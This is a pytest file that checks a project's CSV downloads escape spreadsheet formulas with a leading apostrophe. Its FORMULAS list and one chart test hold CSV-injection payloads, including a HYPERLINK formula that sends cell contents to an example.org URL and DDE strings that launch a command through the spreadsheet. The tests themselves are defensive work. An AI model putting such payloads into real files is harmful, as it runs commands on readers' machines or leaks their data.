"""Every CSV a reader downloads opens in a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from tracingbook.page.charts import figure_table
from tracingbook.page.downloads import csv_text, safe_csv_file, spreadsheet_safe
from tracingbook.sphinx.chart_files import csv_text as chart_csv_text

FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "-5.25", "+3", "-1e3", "2016-01-01", "plain text", "a=b", "'quoted"])
def test_numbers_and_ordinary_text_stay_as_they_are(value: str) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-5, -0.5, 0, 12, 2.5, True, None])
def test_values_that_are_not_text_stay_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) is value


def test_the_csv_writer_keeps_negative_numbers_numbers_and_makes_formulas_text() -> None:
    written = csv_text([["name", "value"], ['=HYPERLINK("x")', -5], ["-2+3+cmd", "-5"], [None, 1.5]])
    rows = list(csv.reader(io.StringIO(written)))
    assert rows == [["name", "value"], ['\'=HYPERLINK("x")', "-5"], ["'-2+3+cmd", "-5"], ["", "1.5"]]


def test_a_data_file_is_rewritten_only_when_a_cell_needs_it() -> None:
    safe = 'id,title\na,"Plain, with a comma"\nb,-5\n'
    assert safe_csv_file(safe) is None
    unsafe = 'id,title\na,"=1+1"\nb,"@SUM(1)"\nc,-5\nd,"line\nbreak"\n'
    rows = list(csv.reader(io.StringIO(safe_csv_file(unsafe) or "")))
    assert rows == [["id", "title"], ["a", "'=1+1"], ["b", "'@SUM(1)"], ["c", "-5"], ["d", "line\nbreak"]]


def test_a_charts_csv_is_spreadsheet_safe() -> None:
    frame = pd.DataFrame({"who": ["+cmd|' /C calc'!A0", "Home Office"], "n": [-5, 3]})
    spec = {"mark": "bar", "usermeta": {"figures": figure_table(frame, "who:N n:Q", who="Who", n="Requests")}}
    rows = list(csv.reader(io.StringIO(chart_csv_text(spec))))
    assert rows == [["Who", "Requests"], ["'+cmd|' /C calc'!A0", "-5"], ["Home Office", "3"]]
